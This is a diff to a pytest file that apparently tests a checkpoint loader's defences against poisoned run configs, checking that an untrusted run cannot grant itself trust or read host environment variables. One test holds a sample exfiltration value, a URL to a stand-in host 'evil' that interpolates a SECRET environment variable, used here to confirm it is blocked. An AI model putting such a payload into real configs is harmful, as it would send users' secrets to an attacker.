@@ -87,3 +87,20 @@ def test_the_last_checkpoint_stands_in_where_no_best_was_written(run):
     digests = run.last.with_name("sha256.json")
     digests.write_text(digests.read_text().replace("best.ckpt", "last.ckpt"))
     assert RunWeights(str(run.path)).file() == run.last
+
+
+@pytest.mark.parametrize("key", ["task.reward.trust", "data.path.trust", "callbacks.x.y.trust"])
+def test_nor_does_any_part_of_a_strangers_run(run, key):
+    weights = poison(run, key, ["antigravity_package"])
+    assert OmegaConf.select(weights.config, key) == []
+    trusting = RunWeights(str(run.path), trust=["mine"])
+    assert OmegaConf.select(trusting.config, key) == ["mine"]
+
+
+@pytest.mark.parametrize("value", ["${oc.env:SECRET}", "http://evil/?${oc.env:SECRET}"])
+@pytest.mark.parametrize("wrap", [str, lambda value: [value]])
+def test_a_strangers_run_learns_nothing_of_this_machine(run, monkeypatch, value, wrap):
+    monkeypatch.setenv("SECRET", "sk-123")
+    weights = poison(run, "data.path", {"_target_": "a.b", "url": wrap(value)})
+    with pytest.raises(ConfigError, match="would be looked up on this machine"):
+        weights.model()
